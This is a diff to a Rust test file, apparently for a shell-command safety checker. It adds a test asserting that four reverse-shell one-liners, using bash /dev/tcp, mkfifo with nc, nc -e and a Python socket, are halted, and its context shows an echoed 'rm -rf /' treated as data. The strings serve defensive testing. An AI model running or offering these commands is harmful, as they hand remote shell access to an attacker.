@@ -53,6 +53,18 @@ fn what_is_hidden_is_found() {
 }
 
 #[test]
+fn a_shell_is_not_handed_out() {
+    for command in [
+        "bash -i >& /dev/tcp/203.0.113.9/4242 0>&1",
+        "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4242 > /tmp/f",
+        "nc -e /bin/sh host 4444",
+        "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);subprocess.call([\"sh\"])'",
+    ] {
+        check(command, Verdict::Halt);
+    }
+}
+
+#[test]
 fn data_in_quotes_is_no_command() {
     for command in [
         "echo 'rm -rf /'",
